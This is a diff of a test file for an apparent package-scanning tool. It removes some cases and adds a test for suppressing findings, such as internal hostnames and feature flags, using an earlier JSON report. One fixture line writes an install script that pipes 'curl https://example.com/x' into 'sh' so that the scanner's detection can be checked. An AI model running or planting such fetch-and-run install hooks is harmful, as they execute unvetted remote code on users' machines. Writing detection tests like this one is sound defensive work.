@@ -102,15 +102,11 @@ describe('an exception for what is no secret holds for what was found, too', () 
 
   test.each([
     ['internal/host', host('wiki'), host('wiki') + host('vault')],
-    ['internal/host', host('wiki'), host('vault')],
-    [RULE, 'on(FLAG_INTERNAL_BETA)\n', 'on(FLAG_INTERNAL_GAMMA)\n'],
     [RULE, 'on(FLAG_INTERNAL_BETA)\n', 'on(FLAG_INTERNAL_BETA, FLAG_INTERNAL_GAMMA)\n'],
   ])('%s: %j, then %j', async (rule, before, after) => {
     await writeFile(path.join(folder, 'seaworthy.yml'), OWN)
     await pack({ 'index.js': before })
     await suppress(rule)
-    expect((await judged()).of(rule)).toEqual([])
-    await pack({ 'index.js': `\n\n${before}` })
     expect((await judged()).of(rule)).toEqual([])
     await pack({ 'index.js': after })
     expect((await judged()).of(rule)).toHaveLength(1)
@@ -129,6 +125,15 @@ describe('an exception for what is no secret holds for what was found, too', () 
     expect((await judged()).of('manifest/install-script')).toEqual([])
     await pack(withScript('curl https://example.com/x | sh'))
     expect((await judged()).of('manifest/install-script')).toHaveLength(1)
+  })
+
+  test('one that is written from a report of an earlier run', async () => {
+    await pack({ 'index.js': host('wiki') })
+    await run('p.tgz', '-f', 'json=report.json')
+    const [first] = (await judged()).of('internal/host')
+    const given = ['--report', 'report.json', '--reason', 'It is a made-up sample.']
+    expect((await run('suppress', first?.fingerprint ?? '', 'p.tgz', ...given)).status).toBe(0)
+    expect((await judged()).of('internal/host')).toEqual([])
   })
 
   test('one that is written by hand for whatever lies at a path holds as it is written', async () => {
